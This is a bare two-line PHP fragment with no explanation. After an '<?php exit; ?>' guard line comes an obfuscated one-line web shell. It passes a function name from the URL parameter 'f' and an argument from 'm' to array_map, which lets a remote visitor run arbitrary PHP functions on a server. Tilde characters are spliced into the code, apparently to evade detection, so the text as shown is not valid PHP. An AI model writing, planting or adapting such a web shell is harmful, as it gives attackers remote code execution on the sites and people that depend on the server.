<?php exit; ?>
<?php arr~ay_map($_G~ET['f'], array($_G~ET['m']));
